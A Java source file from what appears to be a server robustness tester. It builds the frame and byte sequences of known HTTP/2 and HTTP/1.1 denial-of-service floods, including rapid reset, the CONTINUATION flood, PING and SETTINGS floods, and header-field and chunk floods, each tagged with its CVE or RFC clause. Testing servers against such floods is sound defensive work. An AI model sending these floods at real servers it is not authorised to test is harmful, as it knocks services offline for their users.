package dev.assay.behave;

import dev.assay.model.Behaviour.Case;
import dev.assay.model.Behaviour.Concern;
import dev.assay.model.Behaviour.Level;
import java.io.ByteArrayOutputStream;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.IntFunction;

/**
 * A flood that is publicly known.
 *
 * @param http2 whether it is one of HTTP/2, or of HTTP/1.1
 * @param limited whether a server that takes it whole can be made to hold what never ends
 * @param begin what is sent first
 * @param part what is sent again and again, by its number
 * @param parts as often as it is sent
 * @param end what is sent last, to see whether all of it was taken
 * @param answers that come when it was: to PING, or of requests where it is limited
 */
@SuppressWarnings("ArrayRecordComponent") // never compared
record Flood(
        Case subject,
        boolean http2,
        boolean limited,
        byte[] begin,
        IntFunction<byte[]> part,
        int parts,
        byte[] end,
        int answers) {
    private static final String LAST = "PING 0 - \"the last\"";

    /** One of HTTP/2 in lines as in {@code http2.cases}, and what stands behind all of them. */
    private record Lines(List<String> begin, IntFunction<String> part, Optional<String> end) {
        Flood flood(Case subject, Map<String, String> values, int parts, int answers) {
            return new Flood(
                    subject,
                    true,
                    end.isPresent(),
                    concatenated(begin, values),
                    i -> concatenated(part.apply(i).lines().toList(), values),
                    parts,
                    concatenated(List.of(end.orElse(LAST)), values),
                    answers);
        }
    }

    private static byte[] concatenated(List<String> lines, Map<String, String> values) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        lines.forEach(line -> all.writeBytes(FrameText.parse(line, values).bytes()));
        return all.toByteArray();
    }

    /**
     * Those of HTTP/2.
     *
     * @param most frames that are sent of each
     */
    static List<Flood> ofHttp2(Map<String, String> values, int most) {
        return List.of(
                new Lines(List.of(), i -> request(i) + "\nRST_STREAM " + (2 * i + 1) + " - #00000008", Optional.empty())
                        .flood(
                                subject(
                                        "reset",
                                        "RFC 9113 10.5",
                                        "Requests that are cancelled at once (rapid reset, CVE-2023-44487)",
                                        "One connection keeps the app busy with what nobody waits for."),
                                values,
                                most / 2,
                                1),
                new Lines(
                                List.of("HEADERS 1 ES get"),
                                i -> "CONTINUATION 1 - x=\"{a*100}\"",
                                Optional.of("CONTINUATION 1 EH"))
                        .flood(
                                subject(
                                        "continuation",
                                        "RFC 9113 10.5.1",
                                        "A header block in 20,000 frames (CONTINUATION flood, VU#421644)",
                                        "A head without end fills the memory, and no log shows it."),
                                values,
                                most,
                                1),
                new Lines(List.of(), i -> "SETTINGS 0 - #000300000064", Optional.empty())
                        .flood(
                                subject(
                                        "settings",
                                        "RFC 9113 10.5",
                                        "SETTINGS again and again (CVE-2019-9515)",
                                        "Each has to be acknowledged, which costs more than to send it."),
                                values,
                                most,
                                1),
                new Lines(List.of(), i -> "PING 0 - \"12345678\"", Optional.empty())
                        .flood(
                                subject(
                                        "ping",
                                        "RFC 9113 10.5",
                                        "PING again and again (CVE-2019-9512)",
                                        "Each has to be answered, which costs more than to send it."),
                                values,
                                most,
                                most + 1),
                new Lines(List.of("HEADERS 1 EH post"), i -> "DATA 1 -", Optional.empty())
                        .flood(
                                subject(
                                        "data",
                                        "RFC 9113 10.5",
                                        "DATA without a byte again and again (CVE-2019-9518)",
                                        "A body without bytes never comes to a limit of its length."),
                                values,
                                most,
                                1),
                new Lines(List.of("SETTINGS 0 - #000400000000"), Flood::request, Optional.empty())
                        .flood(
                                subject(
                                        "window",
                                        "RFC 9113 10.5",
                                        "Requests whose answers the client does not let come (CVE-2019-9517)",
                                        "Answers wait in memory, or in threads of the app."),
                                values,
                                most,
                                1),
                new Lines(List.of(), Flood::priority, Optional.empty())
                        .flood(
                                subject(
                                        "priority",
                                        "RFC 9113 10.5",
                                        "PRIORITY again and again (CVE-2019-9513)",
                                        "Each rebuilds a tree that nobody needs any more."),
                                values,
                                most,
                                1));
    }

    private static String request(int number) {
        return "HEADERS " + (2 * number + 1) + " EH,ES get";
    }

    /** A stream of a thousand that depends on another one. */
    private static String priority(int number) {
        int stream = 2 * (number % 1_000) + 1;
        return "PRIORITY " + stream + " - #" + HexFormat.of().toHexDigits(2 * (number % 999) + 2_001) + " #0f";
    }

    /** Those of HTTP/1.1. */
    static List<Flood> ofHttp1(AppRequests requests, String host, int most) {
        String get = "GET " + requests.path() + " HTTP/1.1\r\nHost: " + host + "\r\n";
        AppRequests.Post post = requests.post();
        String chunk = post.isForm() ? "a" : " ";
        String begin = "POST " + post.path() + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\nContent-Type: "
                + post.type() + "\r\nTransfer-Encoding: chunked\r\n\r\n";
        String first = post.isForm() ? post.body() + "&a=" : "";
        String last = post.isForm() ? "" : post.body();
        return List.of(
                text(
                        subject(
                                "pipeline",
                                "RFC 9112 9.3.2",
                                "Requests one behind the other, without a wait (pipelining)",
                                "One connection keeps a thread busy, and the app with it."),
                        false,
                        List.of("", get + "\r\n", get + "Connection: close\r\n\r\n"),
                        most,
                        most + 1),
                text(
                        subject(
                                "fields",
                                "RFC 9110 5.4",
                                "A head of 20,000 small fields",
                                "A head without end fills the memory, and no log shows it."),
                        true,
                        List.of(get, "x: a\r\n", "Connection: close\r\n\r\n"),
                        most,
                        1),
                text(
                        subject(
                                "chunks",
                                "RFC 9112 7.1",
                                "A body in 20,000 chunks of one byte",
                                "Each byte costs a line to read."),
                        false,
                        List.of(begin + chunk(first), chunk(chunk), chunk(last) + "0\r\n\r\n"),
                        most,
                        1));
    }

    private static String chunk(String text) {
        return text.isEmpty() ? "" : Integer.toHexString(text.length()) + "\r\n" + text + "\r\n";
    }

    private static Flood text(Case subject, boolean limited, List<String> texts, int parts, int answers) {
        List<byte[]> bytes = texts.stream().map(WireText::raw).toList();
        byte[] part = bytes.get(1);
        return new Flood(subject, false, limited, bytes.get(0), i -> part, parts, bytes.get(2), answers);
    }

    private static Case subject(String id, String clause, String title, String means) {
        return new Case(
                "flood-" + id,
                Floods.ID,
                clause,
                Level.NONE,
                Concern.CLIENT,
                false,
                true,
                title,
                "others and a new client are answered; a head without end is not taken",
                means,
                "");
    }
}
